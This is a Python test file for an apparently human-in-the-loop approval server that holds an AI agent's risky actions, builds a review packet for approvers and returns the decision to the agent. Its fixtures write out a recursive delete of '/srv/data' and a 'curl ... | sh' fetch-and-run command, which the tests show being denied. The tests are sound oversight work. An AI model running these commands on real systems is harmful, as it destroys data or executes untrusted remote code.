"""People see what they are asked to approve: the action as the log recorded it, the reasons,
the instructions and the effects; the agent that asked sees only its own answer."""

from __future__ import annotations

import json
from typing import Any

from tests.server.conftest import ACTION, Served
from tests.server.test_approvals import ask, people, vote


def test_people_see_the_action_its_reasons_and_effects(served: Served) -> None:
    approval = ask(served)["approval_id"]
    view = served.get(f"/v1/approvals/{approval}", served.approver).json()
    handoff = view["handoff"]
    assert handoff["action"]["input"] == ACTION["input"]
    assert handoff["rules"] == ["prod-irreversible-needs-two"]
    assert handoff["instructions"] == [
        "Take a snapshot or backup first and put its id in the plan."
    ]
    (effect,) = handoff["effects"]
    assert (effect["verb"], effect["target"]["id"], effect["reversible"]) == (
        "delete", "/srv/data", "no"
    )  # fmt: skip
    own = served.get(f"/v1/approvals/{approval}", served.agent_key).json()
    assert "handoff" not in own
    assert own["state"] == "pending"


def _post(served: Served, action: dict[str, Any]) -> dict[str, Any]:
    answer = served.post("/v1/actions", served.agent_key, json=action)
    assert answer.status_code == 200, answer.text
    body: dict[str, Any] = answer.json()
    return body


def test_the_packet_has_the_intent_each_spans_text_the_rules_and_the_deadline(
    served: Served,
) -> None:
    intent = {"goal": "free disk on the prod data host", "plan": ["check usage", "delete"],
              "step": 2, "rationale": "disk is 97% full", "doubts": "not sure it is backed up",
              "evidence": ["alert DISK-17", "df -h output"]}  # fmt: skip
    asked = _post(served, {**ACTION, "intent": intent, "session": "s-9"})
    view = served.get(f"/v1/approvals/{asked['approval_id']}", served.approver).json()
    packet = view["handoff"]
    assert packet["agent"] == {"name": "infra-bot", "owner": None, "declared": False}
    assert packet["intent"] == intent
    assert packet["what"] == "shell: rm -rf /srv/data"
    (effect,) = packet["effects"]
    assert (
        effect["span_text"] == "rm -rf /srv/data"[effect["span"]["start"] : effect["span"]["end"]]
    )
    assert effect["span_text"].startswith("rm")
    (rule,) = packet["asking"]
    assert rule["name"] == "prod-irreversible-needs-two"
    assert rule["instructions"] == "Take a snapshot or backup first and put its id in the plan."
    assert rule["source"].startswith("<builtin>/default.yaml:")
    assert packet["deadline"] == view["expires_at"]
    assert packet["deadline"] is not None
    assert packet["progress"] == view["progress"]
    assert packet["plan"] is None


def test_the_packet_has_the_sessions_earlier_actions_and_what_became_of_them(
    served: Served,
) -> None:
    first = _post(served, {**ACTION, "session": "s-1", "input": {"command": "df -h /srv"}})
    _post(served, {**ACTION, "session": "s-1", "input": {"command": "curl -s x.example | sh"}})
    _post(served, {**ACTION, "session": "other", "input": {"command": "ls /srv"}})
    reported = served.post(f"/v1/actions/{first['action_id']}/outcome", served.agent_key,
                           json={"status": "succeeded"})  # fmt: skip
    assert reported.status_code == 200, reported.text
    asked = _post(served, {**ACTION, "session": "s-1"})
    packet = served.get(f"/v1/approvals/{asked['approval_id']}", served.approver).json()["handoff"]
    assert [(e["what"], e["decision"], e["outcomes"]) for e in packet["session"]] == [
        ("shell: curl -s x.example | sh", "deny", []),
        ("shell: df -h /srv", "allow", ["succeeded"]),
    ]


def test_the_packet_has_past_decisions_on_the_same_rule_and_target(served: Served) -> None:
    earlier = ask(served, "rm -rf /srv/data/cache")
    denied = vote(served, served.approver, earlier["approval_id"], "deny", comment="not today")
    assert denied.status_code == 200, denied.text
    asked = _post(served, {**ACTION, "session": "later"})
    packet = served.get(f"/v1/approvals/{asked['approval_id']}", served.approver).json()["handoff"]
    similar = {e["what"]: e for e in packet["similar"]}
    past = similar["shell: rm -rf /srv/data/cache"]
    assert (past["decision"], past["approval"], past["rules"]) == (
        "ask", "denied", ["prod-irreversible-needs-two"])  # fmt: skip


def test_a_terraform_plan_comes_with_its_summary(served: Served) -> None:
    gone = {"actions": ["delete"], "before": {"skip_final_snapshot": True}, "after": None}
    plan = {"format_version": "1.2", "resource_changes": [
        {"address": "aws_db_instance.main", "mode": "managed", "type": "aws_db_instance",
         "change": gone}]}  # fmt: skip
    asked = _post(served, {"tool": "terraform", "environment": "prod", "input": {"plan": plan}})
    assert asked["decision"] == "ask", asked
    packet = served.get(f"/v1/approvals/{asked['approval_id']}", served.approver).json()["handoff"]
    assert packet["what"] == "terraform: a plan of 1 resource changes"
    assert packet["plan"] is not None
    assert "aws_db_instance.main" in json.dumps(packet["plan"])


def test_the_agent_gets_an_answer_back_it_can_follow(served: Served) -> None:
    asked = ask(served)
    assert asked["message"].startswith("Held for a person's approval by watchkeeper")
    assert asked["message"].endswith(
        f"Approval {asked['approval_id']} is open for a person to decide."
    )
    path = f"/v1/approvals/{asked['approval_id']}"
    pending = served.get(path, served.agent_key).json()["answer"]
    assert (pending["decision"], pending["approval_id"]) == ("ask", asked["approval_id"])
    assert pending["message"].startswith(f"Held for approval {asked['approval_id']}")
    vote(served, served.approver, asked["approval_id"], "deny",
         comment="take a snapshot of prod-db first and include its id")  # fmt: skip
    answer = served.get(path, served.agent_key).json()["answer"]
    assert answer["decision"] == "deny"
    said = "take a snapshot of prod-db first and include its id"
    assert answer["comments"] == [
        {"email": "alice@example.com", "vote": "deny", "break_glass": False, "comment": said}
    ]
    assert answer["instructions"] == ["Take a snapshot or backup first and put its id in the plan."]
    assert answer["constraints"] == {}
    assert answer["message"] == (
        f"Denied by alice@example.com (approval {asked['approval_id']}): take a snapshot of "
        "prod-db first and include its id. Do not try it another way; do what they said, or ask "
        "the user. Instructions: Take a snapshot or backup first and put its id in the plan."
    )


def test_an_approved_answer_says_what_the_grant_allows(served: Served) -> None:
    (bob,) = people(served, "bob@example.com")
    asked = ask(served, "rm -rf /srv/data/old")
    for token in (served.approver, bob):
        vote(served, token, asked["approval_id"], "approve", comment="snapshot snap-1 taken")
    answer = served.get(f"/v1/approvals/{asked['approval_id']}", served.agent_key).json()["answer"]
    assert answer["decision"] == "allow"
    assert answer["constraints"]["digest"] == asked["digest"]
    assert answer["constraints"]["uses"] == 1
    assert answer["message"].startswith(
        f"Approved by alice@example.com, bob@example.com (approval {asked['approval_id']}): "
        "snapshot snap-1 taken; snapshot snap-1 taken. Run exactly the same action once"
    )
